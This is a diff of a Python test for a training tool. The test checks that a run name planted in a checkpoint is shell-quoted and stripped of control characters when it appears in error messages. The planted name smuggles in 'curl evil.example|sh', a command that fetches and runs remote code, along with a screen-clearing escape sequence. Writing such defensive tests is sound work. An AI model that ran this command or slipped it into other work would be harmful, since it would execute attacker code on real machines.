@@ -120,17 +120,18 @@ def test_a_name_planted_in_a_checkpoint_is_quoted_without_its_control_characters
     state = load(path).state
     state["config"]["name"] = "x; curl evil.example|sh\x1b[2J"  # ESC [2J: clears the screen it is printed on
     write(state, path)
+    this = make_cfg(QUIET, "trainer.max_steps=5")
     with pytest.raises(RunError) as fresh:
-        recipe.train(make_cfg(QUIET, "trainer.max_steps=5"))
+        recipe.train(this)
     with pytest.raises(RunError) as resumed:
         recipe.train(make_cfg(QUIET, "trainer.max_steps=10", "resume=last"))
     quoted = "'x; curl evil.example|sh[2J'"  # one word to the shell, pasted
     assert str(fresh.value) == (
         f"{checkpoint_dir} holds the checkpoints of another run, {quoted}; continue that run with name={quoted} "
-        f"checkpoint.dir={checkpoint_dir} resume=last, or give 'demo' a folder of its own with checkpoint.dir=<path>"
+        f"checkpoint.dir={checkpoint_dir} resume=last, or give '{this.name}' a folder of its own with checkpoint.dir=<path>"
     )
     assert str(resumed.value) == (
-        f"{path} is a checkpoint of the run {quoted}, not of 'demo'; continue that run with name={quoted} "
+        f"{path} is a checkpoint of the run {quoted}, not of '{this.name}'; continue that run with name={quoted} "
         f"resume=last, or drop resume= and start this one from its weights with init.checkpoint={path}"
     )
 
